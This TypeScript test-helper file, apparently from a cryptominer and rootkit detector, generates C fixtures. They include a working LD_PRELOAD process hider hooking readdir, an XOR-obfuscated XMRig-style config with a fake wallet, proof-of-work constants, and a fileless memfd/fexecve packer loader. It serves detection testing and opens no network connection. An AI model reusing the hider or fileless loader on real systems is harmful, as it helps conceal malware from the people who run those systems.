/**
 * Native test programs: C sources written by the tests themselves, compiled with the system gcc into
 * the test's own temporary directory. `gccSkip` is the reason a test skips where gcc is missing
 * (`.ci/run` installs it, so CI runs them all).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

const hasGcc = spawnSync('gcc', ['--version'], { stdio: 'ignore' }).status === 0;

/** Why a test that compiles C is skipped here, or false when gcc is present. */
export const gccSkip: string | false = hasGcc ? false : 'gcc is not installed (.ci/run installs it)';

/** Compile `source` into `dir/name` (an executable, or a shared object with `shared`); returns its path. */
export function compileC(
  dir: string,
  name: string,
  source: string,
  options: { shared?: boolean; args?: string[] } = {},
): string {
  const src = join(dir, `${name}.c`);
  const out = join(dir, name);
  writeFileSync(src, source);
  const args = options.shared ? ['-shared', '-fPIC', '-O1', '-o', out, src, '-ldl'] : ['-O1', '-o', out, src];
  execFileSync('gcc', [...args, ...(options.args ?? [])], { stdio: ['ignore', 'ignore', 'pipe'] });
  return out;
}

/**
 * A libprocesshider-like library, written here: readdir/readdir64 hooked so a `/proc` listing skips
 * every pid whose comm is `name`. What an `ld.so.preload` hider does to `ps`, for tests only.
 */
export function processHiderSource(name: string): string {
  return `#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *HIDE = ${JSON.stringify(name)};

static int hidden(DIR *dir, const char *entry) {
  char path[256], target[256], comm[64];
  if (entry[0] < '0' || entry[0] > '9') return 0;
  snprintf(path, sizeof path, "/proc/self/fd/%d", dirfd(dir));
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n < 0) return 0;
  target[n] = 0;
  if (strcmp(target, "/proc") != 0) return 0;
  snprintf(path, sizeof path, "/proc/%s/comm", entry);
  FILE *f = fopen(path, "r");
  if (!f) return 0;
  int ok = fgets(comm, sizeof comm, f) != NULL;
  fclose(f);
  if (!ok) return 0;
  comm[strcspn(comm, "\\n")] = 0;
  return strcmp(comm, HIDE) == 0;
}

struct dirent *readdir(DIR *dir) {
  static struct dirent *(*real)(DIR *) = NULL;
  if (!real) real = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  while ((e = real(dir)) != NULL && hidden(dir, e->d_name)) {}
  return e;
}

struct dirent64 *readdir64(DIR *dir) {
  static struct dirent64 *(*real)(DIR *) = NULL;
  if (!real) real = dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *e;
  while ((e = real(dir)) != NULL && hidden(dir, e->d_name)) {}
  return e;
}
`;
}

/** A C string literal of `bytes` XORed with `key` (so the file never holds the text itself). */
function xorLiteral(text: string, key: number): string {
  return `"${[...Buffer.from(text, 'utf8')].map((b) => `\\x${(b ^ key).toString(16).padStart(2, '0')}`).join('')}"`;
}

/** A Monero-shaped address (95 base58 characters after 4A), made up, never a real wallet. */
export const FAKE_WALLET = `4A${'1234567891ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'.repeat(2).slice(0, 93)}`;

/**
 * A program that holds a miner's marks only in heap memory: XMRig-like configuration keys, a Stratum
 * login and job, a pool URL and a wallet, each XOR-encoded in the file and decoded into malloc'd
 * buffers at run time. `busy` as its first argument spins one core; otherwise it sleeps. Written for
 * these tests; it mines nothing and opens no connection.
 */
export function minerMarkerSource(): string {
  const config = `{"autosave":true,"donate-level":1,"cpu":{"huge-pages":true,"max-threads-hint":100},"randomx":{"1gb-pages":false},"pools":[{"url":"stratum+tcp://pool.invalid:3333","user":"${FAKE_WALLET}","pass":"x","rig-id":"w1","nicehash":false}]}`;
  const login = `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${FAKE_WALLET}","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0","cn/r"]}}`;
  const job =
    '{"jsonrpc":"2.0","method":"job","params":{"blob":"0707e6b1b9a0","job_id":"a1","target":"b88d0600","seed_hash":"00ff"}}';
  const texts = [config, login, job];
  const strings = texts.map((s) => xorLiteral(s, 0x5a));
  const lengths = texts.map((s) => Buffer.byteLength(s));
  return `#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static const char *ENCODED[] = { ${strings.join(', ')} };
static const size_t LENGTHS[] = { ${lengths.join(', ')} };
int main(int argc, char **argv) {
  char *keep[3];
  for (int i = 0; i < 3; i++) {
    size_t n = LENGTHS[i]; /* not strlen: an encoded 'Z' is a NUL */
    keep[i] = malloc(n + 1);
    for (size_t j = 0; j < n; j++) keep[i][j] = ENCODED[i][j] ^ 0x5a;
    keep[i][n] = 0;
  }
  if (argc > 1 && strcmp(argv[1], "busy") == 0) {
    volatile unsigned long spin = 0;
    for (;;) spin += (unsigned long)keep[spin % 3][0];
  }
  for (;;) pause();
  return 0;
}
`;
}

/**
 * A program whose proof-of-work constants sit in its read-only data, as a miner's do: RandomX's
 * AesGenerator1R key0, KawPow's RAVENCOINKAWPOW padding words and the start of Ethash's dataset size
 * table (the values rules/yara's coalmine_pow_constants looks for). It sleeps. Run from disk, those
 * pages are the file's; run from a memfd by `packedLoaderSource`, they are a fileless program's.
 */
export function powConstantsSource(): string {
  return `#include <unistd.h>
__attribute__((used)) static const unsigned int RX_AES_GEN_KEY0[4] = { 0x6daca553, 0x62716609, 0xdbb5552b, 0xb4f44917 };
__attribute__((used)) static const unsigned int KAWPOW_PADDING[15] = { 'r','A','V','E','N','C','O','I','N','K','A','W','P','O','W' };
__attribute__((used)) static const unsigned long long ETHASH_DAG_SIZES[3] = { 1073739904ULL, 1082130304ULL, 1090514816ULL };
int main(void) {
  for (;;) pause();
  return 0;
}
`;
}

/**
 * A program with RandomX's memory shape and nothing else of a miner: a 2080 MiB anonymous private
 * mapping (the dataset's size) advised onto transparent huge pages and touched page by page, then it
 * sleeps. Whether the kernel gave huge pages is the caller's to read (`AnonHugePages` in its smaps).
 */
export function randomxShapeSource(): string {
  return `#define _GNU_SOURCE
#include <sys/mman.h>
#include <unistd.h>
int main(void) {
  size_t size = 2080UL << 20;
  unsigned char *p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (p == MAP_FAILED) return 2;
  madvise(p, size, MADV_HUGEPAGE);
  for (size_t i = 0; i < size; i += 4096) p[i] = (unsigned char)(1 + (i >> 12));
  for (;;) pause();
  return 0;
}
`;
}

/**
 * A packer's loader: the program `elf` deflated into the loader's data, inflated at run time into a
 * memfd and executed from it (fileless, as packed droppers do). Needs zlib (`-lz`).
 */
export function packedLoaderSource(deflated: Buffer, size: number): string {
  const bytes = [...deflated].map((b) => `0x${b.toString(16)}`).join(',');
  return `#define _GNU_SOURCE
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>
#include <zlib.h>
extern char **environ;
static const unsigned char PACKED[] = { ${bytes} };
int main(int argc, char **argv) {
  uLongf size = ${size};
  unsigned char *elf = malloc(size);
  if (uncompress(elf, &size, PACKED, sizeof PACKED) != Z_OK) return 2;
  int fd = memfd_create("payload", MFD_CLOEXEC);
  if (fd < 0 || write(fd, elf, size) != (ssize_t)size) return 3;
  (void)argc;
  fexecve(fd, argv, environ);
  return 4;
}
`;
}
